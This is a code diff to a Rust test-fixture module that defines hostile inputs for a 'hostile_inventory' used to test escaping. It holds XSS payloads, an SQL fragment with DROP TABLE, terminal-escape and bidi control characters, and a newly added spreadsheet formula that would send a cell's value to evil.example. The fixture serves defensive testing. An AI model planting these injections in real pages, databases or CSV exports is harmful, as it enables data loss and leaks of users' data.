@@ -110,6 +110,8 @@ pub const HANDLER: &str = "\"><img src=x onerror=\"window.__stewardPwned='onerro
 pub const ATTRIBUTE: &str = "' autofocus onfocus='window.__stewardPwned=\"onfocus\"' x='";
 /// An SQL fragment.
 pub const SQL: &str = "x'); DROP TABLE hosts; -- \" OR 1=1";
+/// A spreadsheet formula, which a CSV export must neutralise.
+pub const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
 /// Control characters other than NUL, a terminal escape and a bidirectional override.
 pub const CONTROLS: &str = "ctl\u{1}\u{7}\u{8}\r\u{1b}[31mred\u{7f}\u{202e}txt";
 
@@ -169,8 +171,9 @@ pub fn hostile_inventory(uuid: &str) -> Inventory {
             package(SQL.into(), "2:1.0-1".into()),
             package(format!("ctl{CONTROLS}"), "1".into()),
             package("huge".into(), huge()),
+            package(FORMULA.into(), "+1-1".into()),
         ],
-        tags: vec![SCRIPT.into()],
+        tags: vec![SCRIPT.into(), FORMULA.into()],
         ..Inventory::default()
     }
 }
